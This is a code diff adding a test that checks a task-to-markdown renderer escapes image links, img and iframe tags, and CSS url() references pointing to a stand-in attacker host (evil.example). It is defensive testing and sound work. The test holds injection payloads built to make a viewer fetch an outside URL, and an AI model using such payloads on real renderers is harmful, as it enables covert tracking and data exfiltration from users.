@@ -34,3 +34,25 @@ test('a task becomes a page with its wish, its answer and its steps', () => {
   const calls = state.agents.flatMap((run) => run.turns.flatMap((turn) => turn.calls));
   expect(page.match(/^1\. /gm)).toHaveLength(calls.length);
 });
+
+test('nothing in the page is loaded by whatever shows it', () => {
+  const state = foldTask(release010 as unknown as Entry[]);
+  if (!state) throw new Error('The stored journal is empty.');
+  const said = (value: string) =>
+    taskMarkdown({ ...state, status: 'completed' }, value, {
+      text: en,
+      format: createFormat('en'),
+      language: 'en',
+    });
+  const owed = 'https://evil.example/?owed=1204';
+  for (const [written, shown] of [
+    [`It is ![a lamp](${owed}) and ![it][1].\n\n[1]: ${owed}`, `It is !\\[a lamp](${owed}) and !\\[it][1].`],
+    [`<b>\n<img src="${owed}"> a < b`, `<b>\n&lt;img src="${owed}"> a < b`],
+    [`<IFRAME/src=${owed}>`, `&lt;IFRAME/src=${owed}>`],
+    [`<a:b\nstyle="background: url(${owed})">`, '&lt;a:b\nstyle'],
+    [`<style>p { background: url(${owed}) }</style>`, '&lt;style>'],
+  ] as const)
+    expect(said(written)).toContain(shown);
+  const harmless = 'a < b, `Vec<u8>`, <https://shop.example/a>, <br>, [a lamp](https://shop.example/), well!';
+  expect(said(harmless)).toContain(harmless);
+});
